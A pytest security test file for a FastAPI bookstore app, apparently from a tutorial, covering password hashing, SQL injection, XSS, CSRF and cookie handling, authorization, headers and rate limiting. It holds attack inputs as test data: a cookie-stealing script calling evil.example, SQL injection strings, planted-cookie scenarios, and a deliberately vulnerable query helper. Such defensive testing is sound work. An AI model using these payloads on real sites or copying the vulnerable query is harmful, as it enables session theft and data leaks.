"""Application security: passwords, SQL injection, XSS, CSRF, authorization, headers,
login rate limiting."""

import hashlib
import re

import anyio
import httpx
import pytest
from argon2 import PasswordHasher
from bookstore.api.accounts import client_address
from bookstore.security.csrf import csrf_token_is_valid, issue_csrf_token
from bookstore.security.headers import SECURITY_HEADERS
from bookstore.security.passwords import hash_password, make_hasher, verify_password
from bookstore.security.vulnerable_examples import find_user_safe, find_user_vulnerable
from fastapi import Request, Response

INJECTION = "' OR 1=1 --"
OURS = {"Origin": "https://testserver"}  # a browser names the page's origin on every POST
SESSION = "__Host-session"  # the session cookie's name over HTTPS


def form_token(page) -> str:
    """The CSRF token in the page's form, as a browser would send it back."""
    return re.search(r'name="csrf_token" value="([^"]*)"', page.text)[1]


# --8<-- [start:password_tests]
def test_hashes_are_argon2id_and_salted():
    hasher = make_hasher()
    first, second = (
        hash_password(hasher, "s3cret pass phrase"),
        hash_password(hasher, "s3cret pass phrase"),
    )
    assert first.startswith("$argon2id$v=19$m=65536,t=3,p=4$")
    assert first != second  # a new random salt each time
    assert verify_password(hasher, first, "s3cret pass phrase") == (True, None)
    assert verify_password(hasher, first, "wrong guess") == (False, None)


def test_old_weak_hashes_are_upgraded_at_login(fast_hasher):
    old = PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)  # yesterday's setting
    stored = old.hash("s3cret pass phrase")
    matches, new_hash = verify_password(fast_hasher, stored, "s3cret pass phrase")
    assert matches and new_hash is not None
    assert "m=8192" in new_hash  # today's parameters; the caller saves it


# --8<-- [end:password_tests]


def test_a_corrupt_hash_does_not_crash_login(fast_hasher):
    assert verify_password(fast_hasher, "not-a-hash", "whatever") == (False, None)


def test_login_stores_the_upgraded_hash(client, db, log_in):
    weak = PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
    log_in("kiki@example.com")
    db.execute(
        "UPDATE users SET password_hash = ? WHERE email = ?",
        (weak.hash("correct horse battery staple"), "kiki@example.com"),
    )
    credentials = {"email": "kiki@example.com", "password": "correct horse battery staple"}
    assert client.post("/api/v1/sessions", json=credentials).status_code == 201
    stored = db.execute("SELECT password_hash FROM users WHERE email = 'kiki@example.com'")
    assert "m=8192" in stored.fetchone()[0]


def test_wrong_password_and_unknown_user_look_the_same(client, log_in):
    log_in("lala@example.com")
    wrong = client.post(
        "/api/v1/sessions", json={"email": "lala@example.com", "password": "x" * 12}
    )
    unknown = client.post(
        "/api/v1/sessions", json={"email": "nobody@example.com", "password": "x" * 12}
    )
    assert wrong.status_code == unknown.status_code == 401
    assert wrong.json()["detail"] == unknown.json()["detail"]


def test_duplicate_sign_up_is_409(client, log_in):
    log_in("mira@example.com")
    again = {"email": "MIRA@example.com", "password": "another long password"}
    assert client.post("/api/v1/users", json=again).status_code == 409  # case-insensitive


def test_bad_bearer_token_is_401_with_challenge(client):
    response = client.get("/api/v1/orders", headers={"Authorization": "Bearer made-up"})
    assert response.status_code == 401
    assert response.headers["WWW-Authenticate"] == "Bearer"


def test_only_a_hash_of_the_session_token_is_stored(client, db, log_in):
    token = log_in("oska@example.com")["Authorization"].removeprefix("Bearer ")
    stored = [row[0] for row in db.execute("SELECT token_hash FROM sessions")]
    assert stored == [hashlib.sha256(token.encode()).hexdigest()]
    tables = [row[0] for row in db.execute("SELECT name FROM sqlite_schema WHERE type = 'table'")]
    for table in tables:  # a copy of the database logs nobody in
        for row in db.execute(f'SELECT * FROM "{table}"'):  # names from the schema, not input
            assert all(token not in str(value) for value in row), table


def test_sessions_expire(client, log_in, clock):
    headers = log_in("nina@example.com")
    assert client.get("/api/v1/orders", headers=headers).status_code == 200
    clock.advance(8 * 3600 + 1)
    assert client.get("/api/v1/orders", headers=headers).status_code == 401


# --8<-- [start:sql_injection_test]
def test_vulnerable_query_leaks_every_user(empty_db):
    for email in ("ana@example.com", "budi@example.com"):
        empty_db.execute("INSERT INTO users (email, password_hash) VALUES (?, 'x')", (email,))
    leaked = find_user_vulnerable(empty_db, INJECTION)
    assert len(leaked) == 2  # the attacker knew no e-mail address at all


def test_parameterized_query_treats_the_input_as_plain_text(empty_db):
    for email in ("ana@example.com", "budi@example.com"):
        empty_db.execute("INSERT INTO users (email, password_hash) VALUES (?, 'x')", (email,))
    assert find_user_safe(empty_db, INJECTION) == []  # no user has that odd address
    assert len(find_user_safe(empty_db, "ana@example.com")) == 1


def test_injection_through_the_api_is_harmless(client, log_in):
    log_in("ana@example.com")
    sneaky = "'OR'1'='1'--@example.com"  # passes the e-mail format check, no spaces
    response = client.post("/api/v1/sessions", json={"email": sneaky, "password": "x" * 12})
    assert response.status_code == 401  # no login, no SQL error, no 500


# --8<-- [end:sql_injection_test]


# --8<-- [start:xss_test]
def test_reviews_are_escaped_in_html(client):
    token = form_token(client.get("/books/1"))
    attack = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    posted = client.post(
        "/books/1/reviews",
        data={"author_name": "Mallory", "body": attack, "csrf_token": token},
        headers=OURS,
        follow_redirects=False,
    )
    assert posted.status_code == 303

    html = client.get("/books/1").text
    assert "<script>fetch" not in html  # not executable markup ...
    assert "&lt;script&gt;fetch(&#39;https://evil.example/?c=&#39;+document.cookie)" in html


# --8<-- [end:xss_test]


def post_review(client, token, headers=OURS, book=1):
    form = {"author_name": "x", "body": "spam", "csrf_token": token}
    return client.post(f"/books/{book}/reviews", data=form, headers=headers, follow_redirects=False)


def raw_request(app, method: str, path: str, *cookies: bytes, token: str | None = None):
    """One request whose Cookie headers reach the app byte for byte, as uvicorn passes on
    what a browser sent. The TestClient cannot send these bytes: it re-encodes header
    values as UTF-8, so a lone 0xA0 byte arrives as 0xC2 0xA0."""

    async def send():
        form = None if token is None else {"author_name": "x", "body": "spam", "csrf_token": token}
        headers = [(b"cookie", cookie) for cookie in cookies] + [(b"origin", b"https://testserver")]
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="https://testserver") as raw:
            return await raw.request(method, path, data=form, headers=headers)

    return anyio.run(send)


def raw_post(app, token: str, *cookies: bytes) -> int:
    """The status of a review posted with these raw Cookie headers and this token."""
    return raw_request(app, "POST", "/books/1/reviews", *cookies, token=token).status_code


# --8<-- [start:csrf_test]
def test_form_post_without_csrf_token_is_403(client):
    client.get("/books/1")  # the browser has the session cookie, as in a real attack
    assert post_review(client, None).status_code == 403


def test_form_post_with_someone_elses_token_is_403(client):
    token = form_token(client.get("/books/1"))  # the attacker's own, real token
    client.cookies.clear()  # the victim's browser does not hold the attacker's session
    client.get("/books/2")  # ... but has its own
    assert post_review(client, token).status_code == 403


def test_a_planted_session_with_its_own_token_is_ignored(client, settings):
    # Someone who can write cookies for the domain plants their own session id and puts
    # a real token issued for it in the forged form. Browsers refuse __Host- cookies from
    # a subdomain or plain HTTP, and the server reads no other name.
    session = "a" * 43
    client.cookies.set("session", session)
    token = issue_csrf_token(settings.secret_key, session)
    assert post_review(client, token).status_code == 403


@pytest.mark.parametrize("lookalike", [b"\xa0__Host-session", b"\x85__Host-session"])
def test_a_lookalike_session_cookie_is_never_read(app, client, settings, lookalike):
    # Chromium 156 keeps a cookie named "\xa0__Host-session" from a plain-HTTP Set-Cookie
    # (the prefix rules only cover names that start with __Host-) and sends its bytes back.
    # request.cookies strips U+00A0 and U+0085 from names and keeps the last of two equal
    # names: the form took the attacker's session id, and the book page even wrote it into
    # the real __Host-session cookie.
    page = client.get("/books/1")
    victim, attacker = page.cookies[SESSION], "a" * 43
    cookie = f"{SESSION}={victim}; ".encode() + lookalike + f"={attacker}".encode()
    attackers_token = issue_csrf_token(settings.secret_key, attacker)
    assert raw_post(app, attackers_token, cookie) == 403
    assert raw_post(app, form_token(page), cookie) == 303  # the victim's own form still works
    assert raw_request(app, "GET", "/books/1", cookie).cookies[SESSION] == victim  # kept


# --8<-- [end:csrf_test]


def test_a_session_cookie_sent_twice_is_not_trusted(app, client, settings):
    # A conforming browser holds one __Host-session per host; two mean someone planted one
    # (an old browser without prefix rules, another path). Neither is believed.
    page = client.get("/books/1")
    victim, attacker = page.cookies[SESSION], "a" * 43
    cookie = f"{SESSION}={victim}; {SESSION}={attacker}".encode()
    attackers_token = issue_csrf_token(settings.secret_key, attacker)
    assert raw_post(app, attackers_token, cookie) == 403
    assert raw_post(app, form_token(page), cookie) == 403
    fresh = raw_request(app, "GET", "/books/1", cookie).cookies[SESSION]
    assert fresh not in (victim, attacker)  # a new session


def test_the_cookie_header_is_read_as_clients_write_it(app, client):
    # "name=value" pairs split by ";", spaces and tabs around a pair, and several Cookie
    # headers (HTTP/2 may split one, RFC 9113 section 8.2.3).
    page = client.get("/books/1")
    session = f"{SESSION}={page.cookies[SESSION]}".encode()
    for cookies in [(b"theme=dark;\t" + session + b" ; lang=id",), (b"theme=dark", session)]:
        assert raw_post(app, form_token(page), *cookies) == 303


def test_a_token_works_for_as_long_as_its_session(client, clock):
    # No lifetime and no single use: a CSRF token is not an access token (OWASP).
    token = form_token(client.get("/books/1"))
    assert post_review(client, token).status_code == 303
    clock.advance(24 * 3600)
    assert post_review(client, token).status_code == 303


def test_two_open_tabs_each_keep_a_valid_form(client):
    first_tab = form_token(client.get("/books/1"))
    second_tab = form_token(client.get("/books/2"))  # opened later, in the same browser
    assert post_review(client, first_tab, book=1).status_code == 303
    assert post_review(client, second_tab, book=2).status_code == 303


def test_review_posts_are_limited_per_client_address(client, clock):
    token = form_token(client.get("/books/1"))
    for _ in range(5):
        assert post_review(client, token).status_code == 303
    refused = post_review(client, token)
    assert refused.status_code == 429
    assert refused.headers["Retry-After"] == "600"
    clock.advance(601)  # ten minutes later
    assert post_review(client, token).status_code == 303


def test_a_review_as_long_as_the_textarea_allows_is_stored(client, db):
    # The textarea counts a line break as one character against maxlength="2000", and the
    # browser submits it as CR LF: 1,995 letters and 5 line breaks arrive as 2,005.
    body = "\r\n".join(["a" * 399] * 5 + [""])  # 5 x 399 letters, 5 line breaks
    token = form_token(client.get("/books/1"))
    form = {"author_name": "x", "body": body, "csrf_token": token}
    posted = client.post("/books/1/reviews", data=form, headers=OURS, follow_redirects=False)
    assert posted.status_code == 303
    stored = db.execute("SELECT body FROM reviews").fetchone()[0]
    assert stored == body.replace("\r\n", "\n") and len(stored) == 2000  # stored with LF


def test_a_review_above_the_limit_is_counted_in_characters(client):
    token = form_token(client.get("/books/1"))
    form = {"author_name": "x", "body": "a" * 2001, "csrf_token": token}
    refused = client.post("/books/1/reviews", data=form, headers=OURS)
    assert refused.status_code == 422
    error = refused.json()["errors"][0]
    assert error["location"] == ["body", "body"]
    assert error["message"] == "String should have at most 2000 characters"  # not "items"


def ipv6_client(app, host: str):
    """An async client whose requests reach the app from `host`, as uvicorn reports it."""
    transport = httpx.ASGITransport(app=app, client=(host, 50000))
    return httpx.AsyncClient(transport=transport, base_url="https://testserver")


def test_ipv6_clients_are_counted_per_64_network(app, client):
    # One home connection gets a /64 (often a /56 or /48): counted per address, every
    # address in it would get its own five reviews.
    async def post_from(host: str) -> int:
        async with ipv6_client(app, host) as browser:
            token = form_token(await browser.get("/books/1"))
            form = {"author_name": "x", "body": "spam", "csrf_token": token}
            return (await browser.post("/books/1/reviews", data=form, headers=OURS)).status_code

    async def run() -> list[int]:
        hosts = [f"2001:db8:1:2::{n:x}" for n in range(1, 7)] + ["2001:db8:1:3::1"]
        return [await post_from(host) for host in hosts]

    statuses = anyio.run(run)
    assert statuses[:5] == [303] * 5
    assert statuses[5] == 429  # the sixth address of the same /64
    assert statuses[6] == 303  # another /64 has its own count


@pytest.mark.parametrize(
    ("host", "counted_as"),
    [
        ("2001:db8:1:2:aaaa:bbbb:cccc:dddd", "2001:db8:1:2::/64"),
        ("2001:DB8:1:2::1", "2001:db8:1:2::/64"),
        ("::ffff:203.0.113.7", "203.0.113.7"),  # IPv4 on a dual-stack socket: one address
        ("203.0.113.7", "203.0.113.7"),
        ("testclient", "testclient"),  # not an IP address: counted as it is
    ],
)
def test_the_client_address_a_limiter_counts(host, counted_as):
    scope = {"type": "http", "client": (host, 50000), "headers": []}
    assert client_address(Request(scope)) == counted_as


def test_a_post_from_another_origin_is_403_even_with_a_valid_token(client):
    token = form_token(client.get("/books/1"))
    assert post_review(client, token, {"Origin": "https://evil.example"}).status_code == 403
    assert post_review(client, token, {}).status_code == 403  # the form needs an Origin
    assert post_review(client, token).status_code == 303  # the token was not used up


def test_a_planted_token_from_another_session_is_refused(settings):
    # An attacker who can write cookies for the domain (a sibling subdomain, plain HTTP)
    # gets a real token that the server issued for *their* session.
    attackers = issue_csrf_token(settings.secret_key, "attacker-session")
    assert csrf_token_is_valid(settings.secret_key, attackers, "attacker-session")
    assert not csrf_token_is_valid(settings.secret_key, attackers, "victim-session")


def test_csrf_token_needs_our_signature(settings):
    token = issue_csrf_token(settings.secret_key, "s")
    assert csrf_token_is_valid(settings.secret_key, token, "s")
    forged = token.rsplit(".", 1)[0] + "." + "0" * 64
    assert not csrf_token_is_valid(settings.secret_key, forged, "s")
    assert not csrf_token_is_valid("another-secret-" + "x" * 32, token, "s")
    assert not csrf_token_is_valid(settings.secret_key, None, "s")
    assert not csrf_token_is_valid(settings.secret_key, "x.y", "s")
    # No session cookie: no session a token could belong to, even one signed for "".
    for_nobody = issue_csrf_token(settings.secret_key, "")
    assert not csrf_token_is_valid(settings.secret_key, for_nobody, "")


def test_a_session_cookie_we_did_not_make_is_replaced(client):
    client.cookies.set(SESSION, "chosen-by-the-attacker")
    page = client.get("/books/1")
    assert page.cookies[SESSION] != "chosen-by-the-attacker"


def test_the_session_cookie_is_secure_httponly_strict_and_the_only_one(client):
    cookies = client.get("/books/1").headers.get_list("set-cookie")
    assert [c.split("=")[0] for c in cookies] == [SESSION]  # the token is in the form only
    for cookie in cookies:  # what a __Host- cookie must have, or the browser drops it
        assert re.search(r"(?i)\bsecure\b", cookie) and "HttpOnly" in cookie
        assert "samesite=strict" in cookie.lower() and "Path=/" in cookie
        assert "domain=" not in cookie.lower()


def test_a_page_that_carries_a_token_is_not_stored(client):
    assert client.get("/books/1").headers["Cache-Control"] == "no-store"


def test_review_of_a_missing_book_is_404(client):
    token = form_token(client.get("/books/1"))
    response = client.post(
        "/books/999/reviews",
        data={"author_name": "x", "body": "y", "csrf_token": token},
        headers=OURS,
    )
    assert response.status_code == 404


# --8<-- [start:authorization_test]
def test_users_see_only_their_own_orders(client, log_in):
    alice, bob = log_in("alice@example.com"), log_in("bob@example.com")
    order = client.post(
        "/api/v1/orders", headers=alice, json={"items": [{"book_id": 1, "quantity": 1}]}
    ).json()
    url = f"/api/v1/orders/{order['id']}"

    assert client.get(url, headers=alice).status_code == 200
    assert client.get(url).status_code == 401  # not logged in
    assert client.get(url, headers=bob).status_code == 404  # logged in, not the owner
    assert client.get("/api/v1/orders/999999", headers=bob).status_code == 404  # same answer


# --8<-- [end:authorization_test]


# --8<-- [start:security_headers_test]
ANSWERS = [  # (status, method, path, request options): pages, API and error answers
    (200, "GET", "/books/1", {}),
    (200, "GET", "/api/v1/books", {}),
    (404, "GET", "/api/v1/books/999", {}),
    (403, "POST", "/api/v1/orders", {"headers": {"Origin": "https://evil.example"}}),
    (413, "POST", "/api/v1/users", {"content": b"x" * 70_000}),
    (422, "POST", "/api/v1/users", {"json": {"email": "not an address"}}),
]


@pytest.mark.parametrize(("status", "method", "path", "options"), ANSWERS)
def test_every_response_has_security_headers(client, status, method, path, options):
    response = client.request(method, path, **options)
    assert response.status_code == status
    for name, value in SECURITY_HEADERS.items():
        assert response.headers[name] == value


def test_a_route_keeps_its_own_header_and_a_500_gets_them_all(app, client):
    @app.get("/embeddable")
    def embeddable():
        return Response("ok", headers={"X-Frame-Options": "SAMEORIGIN"})

    @app.get("/boom")
    def boom():
        raise RuntimeError("unexpected")

    own = client.get("/embeddable").headers
    assert own["X-Frame-Options"] == "SAMEORIGIN"  # setdefault kept the route's value
    assert own["Content-Security-Policy"] == SECURITY_HEADERS["Content-Security-Policy"]
    failed = client.get("/boom")
    assert failed.status_code == 500
    assert all(failed.headers[name] == value for name, value in SECURITY_HEADERS.items())


# --8<-- [end:security_headers_test]


# --8<-- [start:rate_limit_test]
def test_sixth_login_attempt_in_a_minute_is_429(client, clock, log_in):
    log_in("olga@example.com")  # one successful login already counts
    wrong = {"email": "olga@example.com", "password": "not the password"}
    for _ in range(4):
        assert client.post("/api/v1/sessions", json=wrong).status_code == 401

    blocked = client.post("/api/v1/sessions", json=wrong)
    assert blocked.status_code == 429
    assert blocked.headers["Retry-After"] == "60"

    clock.advance(61)  # a minute later the window has moved on
    assert client.post("/api/v1/sessions", json=wrong).status_code == 401


# --8<-- [end:rate_limit_test]


def test_limits_are_per_account(client, log_in):
    log_in("pia@example.com")
    for _ in range(5):
        client.post("/api/v1/sessions", json={"email": "zz@example.com", "password": "y" * 12})
    ok = client.post(
        "/api/v1/sessions",
        json={"email": "pia@example.com", "password": "correct horse battery staple"},
    )
    assert ok.status_code == 201


def test_the_login_limit_counts_an_address_in_any_case(client, log_in):
    # The address is stored as typed; the limiter counts its key, so a new spelling of
    # the same address is no fresh allowance.
    log_in("rosa@example.com")  # one successful login already counts
    for typed in ("Rosa@example.com", "ROSA@example.com", "rOsA@Example.COM", "rosa@EXAMPLE.com"):
        wrong = {"email": typed, "password": "not the password"}
        assert client.post("/api/v1/sessions", json=wrong).status_code == 401
    wrong = {"email": "RoSa@example.com", "password": "not the password"}
    assert client.post("/api/v1/sessions", json=wrong).status_code == 429


def test_retry_after_counts_down(clock):
    from bookstore.security.rate_limit import RateLimiter

    limiter = RateLimiter(limit=2, window=60, clock=clock)
    assert limiter.hit("k") == 0
    clock.advance(20)
    assert limiter.hit("k") == 0
    assert limiter.hit("k") == 40  # the first attempt leaves the window in 40 s
    clock.advance(40)
    assert limiter.hit("k") == 0
